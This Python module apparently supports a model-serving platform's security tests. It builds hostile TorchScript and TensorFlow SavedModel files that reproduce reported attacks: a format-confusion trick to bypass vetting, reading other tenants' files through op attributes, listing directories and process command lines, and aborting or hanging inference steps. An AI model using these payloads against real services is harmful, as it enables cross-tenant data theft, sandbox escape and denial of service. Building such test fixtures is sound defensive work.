"""Hostile models the security tests build (no tests here): each is the attack as it was reported.

- :func:`torchscript_vetting_bypass`: issue 31's first attack. A TorchScript archive whose
  code reads a file with ``torch.from_file`` and prints it, with its ``code/*.py.debug_pkl``
  deleted, a byte ``0xFF`` in a comment beside the read (torch's lexer takes it, UTF-8
  decoding does not) and a member ``models/x.json`` (so detection sees torch.export): submitted
  with ``"source_format": "torchscript"``.
- :func:`file_reading_savedmodels`: SavedModels whose serving function reads a file through an
  op's attribute: ``FixedUnigramCandidateSampler(vocab_file=...)`` (the file's line ``shard``
  lands in its error message) and ``ImmutableConst(memory_region_name=...)``.
"""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path


def torchscript_file_reader(path: Path, target: str, nbytes: int) -> Path:
    """Save a TorchScript module whose forward prints the first ``nbytes`` of ``target`` (torch.from_file)."""
    import torch

    class Snoop(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.target: str = target
            self.nbytes: int = nbytes

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            data = torch.from_file(self.target, False, self.nbytes, dtype=torch.uint8)
            values: list[int] = data.to(torch.int64).tolist()
            text = ""
            for v in values:
                text += chr(v)
            print("LEAKED", text)
            return x * 2.0 + data.float().sum() * 0.0

    torch.jit.script(Snoop()).save(str(path))
    return path


def torchscript_vetting_bypass(path: Path, target: str, nbytes: int = 32) -> Path:
    """Return ``path``: the reported TorchScript bypass (see the module docstring) reading ``target``."""
    plain = torchscript_file_reader(path.with_suffix(".plain.pt"), target, nbytes)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as out:
        root = src.namelist()[0].split("/", 1)[0]
        for info in src.infolist():
            if info.filename.endswith(".py.debug_pkl"):
                continue  # torch loads without them
            data = src.read(info)
            if "/code/" in info.filename and b"from_file" in data:
                head, _, rest = data.partition(b"  def forward")
                data = head + b"  # \xff torch's lexer reads any byte in a comment\n  def forward" + rest
            out.writestr(info, data)
        out.writestr(f"{root}/models/x.json", b"{}")  # looks like torch.export to detection
    plain.unlink()
    return path


_SAVEDMODELS = """
import sys, tensorflow as tf
root, target = sys.argv[1], sys.argv[2]
class M(tf.Module):
    def __init__(self, body):
        super().__init__(); self.body = body
    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
    def serve(self, x):
        return {"y": self.body(x)}
def sampler(x):  # "Wrong vocabulary format at line: <line shard of the file>"
    s = tf.raw_ops.FixedUnigramCandidateSampler(true_classes=tf.zeros([1, 1], tf.int64), num_true=1, num_sampled=1,
        unique=True, range_max=3, vocab_file=target, shard=0, num_shards=1)
    return x * 2.0 + tf.cast(tf.reduce_sum(s[0]), tf.float32)
def mapped(x):  # memory-maps the file
    m = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[8], memory_region_name=target)
    return x * 2.0 + tf.cast(tf.reduce_sum(m), tf.float32)
for name, body in (("sampler", sampler), ("mapped", mapped)):
    m = M(body)
    tf.saved_model.save(m, f"{root}/{name}", signatures={"serving_default": m.serve})
"""


def file_reading_savedmodels(root: Path, target: str) -> dict[str, Path]:
    """Build the two file-reading SavedModels under ``root`` (TensorFlow in a subprocess); return name -> zip."""
    import shutil

    subprocess.run(
        [sys.executable, "-c", _SAVEDMODELS, str(root), target],
        check=True,
        capture_output=True,
        env={"TF_CPP_MIN_LOG_LEVEL": "3"},
    )
    return {name: Path(shutil.make_archive(str(root / name), "zip", root / name)) for name in ("sampler", "mapped")}


_SNOOPS = """
import json, shutil, sys, tensorflow as tf
root, aims = sys.argv[1], json.loads(sys.argv[2])
class M(tf.Module):
    def __init__(self, body):
        super().__init__(); self.body = body
    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
    def serve(self, x):
        return {"y": self.body(x)}
def after(ops, x):
    with tf.control_dependencies(ops):
        return tf.identity(x * 2.0)
def lister(pattern):  # what a step can see of a folder (one per model: a refused listing fails the call)
    def body(x):
        return after([tf.print("LISTING", pattern, "=", tf.strings.reduce_join(tf.io.matching_files(pattern),
                                                                            separator=" | "))], x)
    return body
def procs(x):  # every process the step can see, by its command line
    cmdlines = tf.io.matching_files("/proc/[0-9]*/cmdline")
    read = tf.map_fn(lambda f: tf.strings.regex_replace(tf.io.read_file(f), "\\x00", " "), cmdlines,
                     fn_output_signature=tf.string)
    return after([tf.print("PROCS", tf.strings.reduce_join(read, separator=" | "))], x)
def store_reader(x):
    return after([tf.print("LEAKED", tf.io.read_file(aims["victim"]))], x)
def sampler_reader(x):
    s = tf.raw_ops.FixedUnigramCandidateSampler(true_classes=tf.zeros([1, 1], tf.int64), num_true=1, num_sampled=1,
        unique=True, range_max=3, vocab_file=aims["victim"])
    return x * 2.0 + tf.cast(tf.reduce_sum(s[0]), tf.float32)
def mapped_reader(x):
    m = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[16], memory_region_name=aims["victim"])
    return after([tf.print("LEAKED", m, summarize=-1)], x)
def abort(x):  # TensorFlow calls exit(0) in the middle of the step
    return after([tf.raw_ops.Abort(error_msg="bye", exit_without_error=True)], x)
def hang(x):  # blocks for good on an empty queue: the step holds its slot until its time limit
    q = tf.raw_ops.FIFOQueueV2(component_types=[tf.float32], shapes=[[]], capacity=1)
    v = tf.raw_ops.QueueDequeueV2(handle=q, component_types=[tf.float32], timeout_ms=-1)
    return x * 2.0 + v[0]
bodies = {f"lister_{i}": lister(p) for i, p in enumerate(aims["globs"])}
for name in aims["build"]:
    m = M(bodies[name] if name in bodies else globals()[name])
    tf.saved_model.save(m, f"{root}/{name}", signatures={"serving_default": m.serve})
    shutil.make_archive(f"{root}/{name}", "zip", f"{root}/{name}")
"""


def snooping_savedmodels(root: Path, victim: str, globs: list[str]) -> dict[str, Path]:
    """Build SavedModels that try to reach outside their job (for a sandbox with vetting off); return name -> zip.

    ``lister_<i>`` prints what ``globs[i]`` matches; ``procs`` every visible process's command
    line; ``store_reader``, ``sampler_reader`` and ``mapped_reader`` read ``victim`` (another
    tenant's upload) with ReadFile, FixedUnigramCandidateSampler(vocab_file) and ImmutableConst;
    ``abort`` makes TensorFlow exit() mid-step; ``hang`` blocks on an empty queue.
    """
    import json

    names = [f"lister_{i}" for i in range(len(globs))]
    names += ["procs", "store_reader", "sampler_reader", "mapped_reader", "abort", "hang"]
    aims = {"victim": victim, "globs": globs, "build": names}
    subprocess.run(
        [sys.executable, "-c", _SNOOPS, str(root), json.dumps(aims)],
        check=True,
        capture_output=True,
        env={"TF_CPP_MIN_LOG_LEVEL": "3"},
    )
    return {name: root / f"{name}.zip" for name in names}
